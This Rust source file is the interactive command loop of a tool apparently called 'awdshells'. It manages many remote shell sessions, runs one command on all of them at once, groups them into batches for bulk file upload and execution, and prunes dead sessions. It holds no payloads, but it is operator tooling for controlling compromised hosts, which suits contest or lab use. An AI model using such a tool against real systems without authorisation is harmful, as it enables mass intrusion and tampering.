//! Interactive command driver.
//!
//! Thin glue between operator input and the session/batch/server core: it
//! tokenizes lines, dispatches, and prints results. The driver runs on a
//! blocking thread and enters the runtime through a [`Handle`] for every
//! async operation, so operator input never stalls the reactor.

use std::collections::BTreeMap;
use std::io::{BufRead, Write};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};

use tokio::runtime::Handle;

use protocol::token;

use crate::batch::{Batch, BatchId};
use crate::logger::{Level, Logger};
use crate::server::Server;
use crate::session::SessionId;

/// The interactive top-level REPL.
pub struct Repl {
    server: Arc<Server>,
    log: Arc<Logger>,
    handle: Handle,
    interrupted: Arc<AtomicBool>,
    batches: BTreeMap<BatchId, Arc<Batch>>,
    next_batch_id: BatchId,
}

impl Repl {
    pub fn new(
        server: Arc<Server>,
        log: Arc<Logger>,
        handle: Handle,
        interrupted: Arc<AtomicBool>,
    ) -> Self {
        Self {
            server,
            log,
            handle,
            interrupted,
            batches: BTreeMap::new(),
            next_batch_id: 0,
        }
    }

    /// Runs the REPL until `exit`, operator EOF, or an interrupt.
    pub fn run<R, W>(&mut self, input: &mut R, output: &mut W) -> std::io::Result<()>
    where
        R: BufRead,
        W: Write,
    {
        loop {
            if self.interrupted.load(Ordering::Acquire) {
                self.log.message("Interrupt received, exiting...");
                break;
            }

            write!(output, "awdshells> ")?;
            output.flush()?;

            let Some(command) = read_command(input, output)? else {
                break;
            };
            if command.is_empty() {
                continue;
            }

            let args: Vec<String> = command.split_whitespace().map(str::to_string).collect();
            if !self.dispatch(&args, input, output)? {
                break;
            }
        }
        Ok(())
    }

    /// Dispatches one tokenized command. Returns `false` when the REPL
    /// should stop.
    fn dispatch<R, W>(
        &mut self,
        args: &[String],
        input: &mut R,
        output: &mut W,
    ) -> std::io::Result<bool>
    where
        R: BufRead,
        W: Write,
    {
        let command = translate_shortcut(&args[0]);
        let rest = &args[1..];
        tracing::debug!(command, args = rest.len(), "dispatching");

        match command {
            "exit" => return self.confirm_exit(input, output),
            "session" => self.handle_session(rest, input, output)?,
            "batch" => self.handle_batch(rest, input, output)?,
            "clear" => self.handle_clear(rest),
            "log" => self.handle_log(rest),
            other => self.log.warning(format!("{other}: no such command")),
        }
        Ok(true)
    }

    fn confirm_exit<R, W>(&self, input: &mut R, output: &mut W) -> std::io::Result<bool>
    where
        R: BufRead,
        W: Write,
    {
        if self.server.count() > 0 {
            writeln!(output, "Are you sure you want to exit? (y/n)")?;
            output.flush()?;
            let mut answer = String::new();
            input.read_line(&mut answer)?;
            if answer.trim() != "y" {
                return Ok(true);
            }
        }
        self.log.message("Exiting program...");
        Ok(false)
    }

    fn handle_session<R, W>(
        &self,
        args: &[String],
        input: &mut R,
        output: &mut W,
    ) -> std::io::Result<()>
    where
        R: BufRead,
        W: Write,
    {
        let Some(sub) = args.first() else {
            self.log.warning("session: no subcommand specified");
            return Ok(());
        };

        match sub.as_str() {
            "-l" => {
                let all = args.get(1).is_some_and(|arg| arg == "all");
                if all {
                    self.log.message("Listing all sessions...");
                } else {
                    self.log.message("Listing active sessions...");
                }

                let sessions = self.server.snapshot(false);
                if sessions.is_empty() {
                    writeln!(output, "[-]No session established")?;
                    return Ok(());
                }
                for session in sessions {
                    if all || session.is_alive() {
                        writeln!(output, "{session}")?;
                    }
                }
            }
            "-i" => {
                let Some(raw) = args.get(1) else {
                    self.log.warning("session: no session id specified");
                    return Ok(());
                };
                let Some(id) = self.parse_id(raw, "session") else {
                    return Ok(());
                };
                let Some(session) = self.server.get(id) else {
                    self.log.warning(format!("session: session {id} not found"));
                    return Ok(());
                };
                let Some(lease) = session.try_lease() else {
                    self.log
                        .warning(format!("session: session {id} is already in use"));
                    return Ok(());
                };
                self.log.message("Interacting with session...");
                self.handle.block_on(lease.interact(input, output))?;
            }
            "-a" => {
                if args.len() < 2 {
                    self.log.warning("session: no command specified");
                    return Ok(());
                }
                self.log.message("Execute command on all sessions...");
                let command_line = args[1..].join(" ");

                let results: Arc<Mutex<Vec<(SessionId, String)>>> =
                    Arc::new(Mutex::new(Vec::new()));
                self.handle.block_on(self.server.for_each(
                    {
                        let results = Arc::clone(&results);
                        move |session| {
                            let results = Arc::clone(&results);
                            let command_line = command_line.clone();
                            async move {
                                let out = session.execute(&command_line).await;
                                if let Ok(mut results) = results.lock() {
                                    results.push((session.id(), out));
                                }
                            }
                        }
                    },
                    true,
                ));

                let mut results = results.lock().map(|r| r.clone()).unwrap_or_default();
                results.sort_by_key(|(id, _)| *id);
                for (_, out) in results {
                    write!(output, "{out}")?;
                }
            }
            other => self
                .log
                .warning(format!("session: unknown subcommand '{other}'")),
        }
        Ok(())
    }

    fn handle_clear(&self, args: &[String]) {
        let dead: Arc<Mutex<Vec<SessionId>>> = Arc::new(Mutex::new(Vec::new()));

        if args.first().is_some_and(|arg| arg == "-a") {
            // active probe: anything that errors or stalls goes
            self.handle.block_on(self.server.for_each(
                {
                    let dead = Arc::clone(&dead);
                    move |session| {
                        let dead = Arc::clone(&dead);
                        async move {
                            let probe = token::generate(token::PROBE_LEN);
                            session.execute(&format!("echo {probe}")).await;
                            if !session.is_alive() || session.is_timed_out() {
                                if let Ok(mut dead) = dead.lock() {
                                    dead.push(session.id());
                                }
                            }
                        }
                    }
                },
                false,
            ));
        } else {
            self.handle.block_on(self.server.for_each(
                {
                    let dead = Arc::clone(&dead);
                    move |session| {
                        let dead = Arc::clone(&dead);
                        async move {
                            if !session.is_alive() {
                                if let Ok(mut dead) = dead.lock() {
                                    dead.push(session.id());
                                }
                            }
                        }
                    }
                },
                false,
            ));
        }

        let dead = dead.lock().map(|d| d.clone()).unwrap_or_default();
        for id in dead {
            self.server.remove(id);
        }
    }

    fn handle_batch<R, W>(
        &mut self,
        args: &[String],
        input: &mut R,
        output: &mut W,
    ) -> std::io::Result<()>
    where
        R: BufRead,
        W: Write,
    {
        let Some(sub) = args.first() else {
            self.log.warning("batch: no subcommand specified");
            return Ok(());
        };

        match sub.as_str() {
            "create" => {
                self.log.message("Creating new batch...");
                let id = self.next_batch_id;
                self.next_batch_id += 1;
                self.batches
                    .insert(id, Arc::new(Batch::new(id, Arc::clone(&self.log))));
            }
            "delete" => {
                let Some(id) = self.require_batch_id(args.get(1)) else {
                    return Ok(());
                };
                match self.batches.remove(&id) {
                    Some(batch) => self.log.message(format!("Removing {batch}")),
                    None => self.log.warning(format!("batch: batch {id} not found")),
                }
            }
            "list" => {
                self.log.message("Listing all batches...");
                for batch in self.batches.values() {
                    writeln!(output, "{batch}")?;
                }
            }
            "operate" => {
                let Some(id) = self.require_batch_id(args.get(1)) else {
                    return Ok(());
                };
                let Some(batch) = self.batches.get(&id).cloned() else {
                    self.log.warning(format!("batch: batch {id} not found"));
                    return Ok(());
                };
                self.operate_batch(&batch, input, output)?;
            }
            "clear" => {
                self.log.message("Clearing all batches...");
                self.batches.clear();
            }
            other => self
                .log
                .warning(format!("batch: unknown subcommand '{other}'")),
        }
        Ok(())
    }

    /// The nested per-batch REPL.
    fn operate_batch<R, W>(
        &self,
        batch: &Arc<Batch>,
        input: &mut R,
        output: &mut W,
    ) -> std::io::Result<()>
    where
        R: BufRead,
        W: Write,
    {
        self.log.message(format!("Operating on {batch}"));

        loop {
            write!(output, "batch> ")?;
            output.flush()?;

            let mut line = String::new();
            if input.read_line(&mut line)? == 0 {
                break;
            }
            let args: Vec<&str> = line.split_whitespace().collect();
            let Some(&sub) = args.first() else {
                continue;
            };

            match sub {
                "exit" => break,
                "add" => {
                    let Some(raw) = args.get(1) else {
                        self.log.warning("Usage: add <session_id>");
                        continue;
                    };
                    let Some(id) = self.parse_id(raw, "batch") else {
                        continue;
                    };
                    if self.server.get(id).is_none() {
                        self.log.warning(format!("batch: session {id} not found"));
                    } else {
                        batch.add(id);
                    }
                }
                "remove" => {
                    let Some(raw) = args.get(1) else {
                        self.log.warning("Usage: remove <session_id>");
                        continue;
                    };
                    let Some(id) = self.parse_id(raw, "batch") else {
                        continue;
                    };
                    if self.server.get(id).is_none() {
                        self.log.warning(format!("batch: session {id} not found"));
                    } else {
                        batch.remove(id);
                    }
                }
                "list" => {
                    self.log.message("Listing sessions for current batch...");
                    for line in batch.list(&self.server) {
                        writeln!(output, "{line}")?;
                    }
                }
                "upload" => {
                    if args.len() < 3 {
                        self.log.warning("Usage: upload <filepath> <target_name>");
                        continue;
                    }
                    self.log.message("Uploading file for current batch...");
                    self.handle.block_on(batch.upload(
                        &self.server,
                        std::path::Path::new(args[1]),
                        args[2],
                    ));
                }
                "execute" => {
                    if args.len() < 2 {
                        self.log.warning("Usage: execute <command>");
                        continue;
                    }
                    self.log.message("Executing command for current batch...");
                    let command_line = args[1..].join(" ");
                    let results = self
                        .handle
                        .block_on(batch.execute(&self.server, &command_line));
                    for (_, out) in results {
                        write!(output, "{out}")?;
                    }
                }
                other => self.log.warning(format!(
                    "Unknown command: {other}\n\
                     Available commands: add, remove, list, upload, execute, exit"
                )),
            }
        }
        Ok(())
    }

    fn handle_log(&self, args: &[String]) {
        let Some(raw) = args.first() else {
            self.log.warning("log: no loglevel specified");
            return;
        };
        match raw.parse::<Level>() {
            Ok(level) => {
                self.log
                    .message(format!("Setting display log level to {level}"));
                self.log.set_display_level(level);
            }
            Err(_) => self.log.warning(format!("log: unknown loglevel '{raw}'")),
        }
    }

    fn parse_id(&self, raw: &str, what: &str) -> Option<u64> {
        match raw.parse() {
            Ok(id) => Some(id),
            Err(_) => {
                self.log.warning(format!("{what}: invalid id '{raw}'"));
                None
            }
        }
    }

    fn require_batch_id(&self, raw: Option<&String>) -> Option<BatchId> {
        let Some(raw) = raw else {
            self.log.warning("batch: no batch id specified");
            return None;
        };
        self.parse_id(raw, "batch")
    }
}

/// Maps single-letter and abbreviated command names to their full form.
pub fn translate_shortcut(command: &str) -> &str {
    match command {
        "s" | "sess" => "session",
        "b" | "bat" => "batch",
        "c" | "clr" => "clear",
        "l" => "log",
        other => other,
    }
}

/// Reads one logical command, joining lines continued with a trailing `\`.
/// Returns `None` on operator EOF.
pub fn read_command<R, W>(input: &mut R, output: &mut W) -> std::io::Result<Option<String>>
where
    R: BufRead,
    W: Write,
{
    let mut command = String::new();
    loop {
        let mut line = String::new();
        if input.read_line(&mut line)? == 0 {
            if command.is_empty() {
                return Ok(None);
            }
            break;
        }
        let line = line.trim_end_matches(['\r', '\n']);
        match line.strip_suffix('\\') {
            Some(stripped) => {
                command.push_str(stripped);
                write!(output, "> ")?;
                output.flush()?;
            }
            None => {
                command.push_str(line);
                break;
            }
        }
    }
    Ok(Some(command.trim().to_string()))
}
